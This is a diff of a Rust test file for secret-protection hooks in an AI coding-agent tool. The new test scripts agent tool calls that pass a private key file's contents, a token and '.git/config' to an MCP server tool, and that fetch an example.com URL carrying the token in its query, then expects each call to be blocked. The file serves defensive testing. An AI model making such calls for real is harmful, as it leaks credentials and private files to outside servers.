@@ -116,6 +116,41 @@ fn the_content_of_a_secret_file_does_not_reach_the_model_by_any_tool() -> Result
     Ok(())
 }
 
+/// A server with the tool `ask`, which would get what the calls have.
+const SERVER: &str = include_str!("../../fixtures/verdict/server.sh");
+
+#[test]
+fn tools_of_servers_and_the_web_get_no_secret() -> Result<()> {
+    let client = client!("tools_of_servers_and_the_web_get_no_secret");
+    let (project, tools) = (Project::new()?, Project::new()?);
+    install(&project, &["protect-secrets", "deny-secrets", "protect-files"])?;
+    project.write("server.key", "the key\n")?;
+    tools.write("server.sh", SERVER)?;
+    let server = json!({"mcpServers": {"srv": {"command": "sh", "args": [tools.path().join("server.sh")]}}});
+    let ask = |message: &str| Turn::call("mcp__srv__ask", json!({"message": message}));
+    let address = format!("https://example.com/?t={}", token());
+    let outcome = Session::new(&client, project.path())
+        .allow(&["WebFetch", "mcp__srv"])
+        .arguments(&["--mcp-config", &server.to_string()])
+        .env("ENABLE_TOOL_SEARCH", "0")
+        .turn(ask(text(&project.path().join("server.key"))?))
+        .turn(ask(&token()))
+        .turn(ask(".git/config"))
+        .turn(Turn::call(
+            "WebFetch",
+            json!({"url": address, "prompt": "What is there?"}),
+        ))
+        .turn(ask("hello"))
+        .go()?;
+    let results = outcome.tool_results();
+    results[0].has("a private key or a key store");
+    results[1].has("the call holds what looks like a secret");
+    results[2].has("is protected");
+    results[3].has("the call holds what looks like a secret");
+    results[4].has("cancel");
+    Ok(())
+}
+
 #[test]
 fn protected_files_are_unchanged() -> Result<()> {
     let client = client!("protected_files_are_unchanged");
